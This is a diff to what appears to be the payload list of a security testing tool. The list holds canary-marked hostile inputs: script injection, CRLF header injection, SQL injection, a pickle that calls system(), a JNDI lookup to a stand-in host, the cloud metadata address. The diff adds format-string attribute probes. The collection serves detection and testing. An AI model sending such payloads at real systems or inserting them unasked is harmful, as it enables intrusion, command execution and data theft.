@@ -17,6 +17,8 @@ MARKUP = "<script>lt7f3</script>"
 INJECTED_LINE = "X-Injected: lt7f3"
 INJECTED_HEADER = f"evil\r\n{INJECTED_LINE}"
 QUOTE = f"{QUOTED}' OR '1'='1"
+ATTRIBUTE = "lt7f3{%s.__class__}"
+"""What a text that is formatted with something shows of it."""
 CANARY_HOST = "canary-host.example"
 METADATA = "169.254.169.254"
 
@@ -54,6 +56,7 @@ PAYLOADS = (
     _payload("Y29zCnN5c3RlbQooUydjYW5hcnknCnRSLg==", "pickle", only=True),  # cos\nsystem\n(S'canary'\ntR.
     _payload(f"${{jndi:ldap://{CANARY_HOST}/a}}", "template", group=BAD_INPUTS, only=True),
 )
+MOST_TEMPLATES = 3
 PLAIN = tuple(payload.text for payload in PAYLOADS if not payload.only)
 """What is sent to any code."""
 
@@ -62,4 +65,5 @@ def texts(vocabulary: Vocabulary) -> tuple[str, ...]:
     """The hostile texts for a code, those first that can do harm in it."""
     explosive = tuple(dict.fromkeys(text for _, text in vocabulary.explosive))
     harmful = [payload.text for payload in PAYLOADS if payload.sinks & vocabulary.sinks]
-    return tuple(dict.fromkeys((*explosive, *harmful, *PLAIN)))
+    templates = [ATTRIBUTE % name for name in sorted(vocabulary.formatted)[:MOST_TEMPLATES]]
+    return tuple(dict.fromkeys((*explosive, *templates, *harmful, *PLAIN)))
